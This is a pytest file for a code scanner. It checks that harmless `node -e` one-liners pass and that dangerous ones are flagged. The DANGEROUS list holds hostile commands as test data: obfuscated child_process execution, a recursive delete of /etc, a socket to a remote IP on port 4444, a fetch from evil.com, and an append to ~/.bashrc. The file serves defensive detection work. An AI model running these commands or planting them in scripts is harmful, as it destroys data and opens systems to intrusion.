"""JavaScript that a script hands to node: strings in backticks and patterns are ordinary, what reaches out is not."""

import pytest

from refute.scan.finding import Severity
from refute.scan.rules import Language
from refute.scan.scanner import scan_text

ORDINARY = [
    """node -e 'throw new Error(`bad version ${process.version}`)'""",
    """node -e 'const m = /v(\\d+)/.exec(process.version); if (m[1] < 18) process.exit(1)'""",
    """node -e 'const fs = require("node:fs"); fs.writeFileSync("v.txt", `${1}`)'""",
    """node -p 'require("./package.json").version'""",
]
DANGEROUS = [
    """node -e 'require("child_process").exec("id")'""",
    """node -e 'require("child_"+"process")["ex"+"ec"]("id")'""",
    """node -e 'import(`child_${"process"}`).then(c => c.run("x"))'""",
    """node -e '[].constructor.constructor("return process")().exit()'""",
    """node -e 'process["bin" + "ding"]("spawn_sync")'""",
    """node -e 'require("fs").rm("/etc", {recursive: true}, () => {})'""",
    """node -e 'require("net").connect(4444, "203.0.113.7")'""",
    """node -e 'require("node:https").get("https://evil.com/x")'""",
    """node -e 'require("fs").appendFileSync(process.env.HOME + "/.bashrc", "x")'""",
]


def _blocks(text: str) -> bool:
    findings = scan_text("run.sh", text.encode(), language=Language.SHELL)
    return any(finding.severity >= Severity.HIGH for finding in findings)


@pytest.mark.parametrize("text", ORDINARY)
def test_code_that_reads_and_prints_does_not_block(text: str) -> None:
    assert not _blocks(text)


@pytest.mark.parametrize("text", DANGEROUS)
def test_code_that_reaches_out_or_hides_what_it_calls_blocks(text: str) -> None:
    assert _blocks(text)
